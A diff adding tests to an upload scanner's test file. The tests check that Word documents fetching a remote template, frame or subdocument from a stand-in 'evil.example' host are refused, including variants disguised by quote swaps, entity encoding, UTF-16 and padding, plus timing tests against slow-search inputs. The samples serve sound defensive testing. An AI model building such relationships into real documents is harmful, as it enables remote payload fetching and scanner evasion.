@@ -63,3 +63,48 @@ test('UP-4 an archive that unpacks to too much, holds others, links or programs 
   expect(await found('a.docx', docx([{ name: 'to', data: 'x', encrypted: true }]))).toBe('refused: encrypted');
   expect(await found('a.docx', zip([{ name: 'a.txt', data: 'x' }]))).toBe('refused: type');
 });
+
+const relationship = (type: string, more: string) =>
+  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ${more}/>`;
+const related = (data: Buffer | string) => found('a.docx', docx([{ name: 'word/_rels/document.xml.rels', data }]));
+
+test('UP-1 a document that fetches a template or an object when it is opened is refused, however that is written; one with links is not', async () => {
+  const link = relationship('hyperlink', 'Target="https://clinic.example/frame?a=&lt;b>c" TargetMode="External"');
+  const inside = relationship('oleObject', 'Target="embeddings/one.xlsx"');
+  expect(await related(`<Relationships>${link}${inside}${link}</Relationships>`)).toBe('docx');
+  const template = relationship('attachedTemplate', 'Target="https://evil.example/a" TargetMode="External"');
+  for (const data of [
+    template,
+    relationship('frame', 'Target="https://evil.example/a>b" TargetMode="External"'),
+    template.replaceAll('"', "'"),
+    template.replace('="External"', ' =\n"External"').replace('<Rel', '<r:Rel'),
+    template.replace('External', '&#x45;xtern&#97;l'),
+    relationship('subDocument', `Target="https://evil.example/${'a'.repeat(5_000)}" TargetMode="External"`),
+    Buffer.from(template, 'utf16le'),
+  ])
+    expect(await related(data), String(data).slice(0, 200)).toBe('refused: active');
+  expect(await found('a.docx', docx([{ name: 'word/_rels/A.RELS', data: template }]))).toBe('refused: active');
+});
+
+test('UP-4 what a document fetches is looked for in the whole of it, or it is refused', async () => {
+  expect(await related(`<Relationships>${' '.repeat(400_000)}${relationship('frame', 'TargetMode="External"')}`)).toBe('refused: archive');
+});
+
+test('UP-4 a file that is written to be slow to search is searched as quickly as any other', async () => {
+  const filled = (piece: string) => piece.repeat(Math.floor(190_000 / piece.length));
+  const pieces = ['frame"', 'TargetMode="External"', '<Relationship frame"', '<', '&#', '&#x0', '\0', 'TargetMode="External" frame'];
+  const texts = ['<svg ', '<svg', '<!doctype ', '<!doctype', '<\t', ' ', '/', '#2f', '#', 'startxref\n1\n', '%%EOF\n', '%%EOF\0'];
+  const quickly = async (name: string, bytes: Buffer | string) => {
+    const began = performance.now();
+    await found(name, bytes);
+    expect(performance.now() - began, `${name} ${String(bytes).slice(0, 60)}`).toBeLessThan(2_000);
+  };
+  for (const piece of pieces) await quickly('a.docx', docx([{ name: 'word/_rels/document.xml.rels', data: filled(piece) }]));
+  const whole = pdf();
+  for (const piece of texts) {
+    await quickly('a.txt', `words\n${filled(piece)}`);
+    await quickly('a.txt', `<!doctype${filled(piece)}`);
+    await quickly('a.pdf', Buffer.concat([whole.subarray(0, 9), Buffer.from(filled(piece)), whole.subarray(9)]));
+    await quickly('a.pdf', Buffer.concat([whole, Buffer.from(filled(piece))]));
+  }
+}, 60_000);
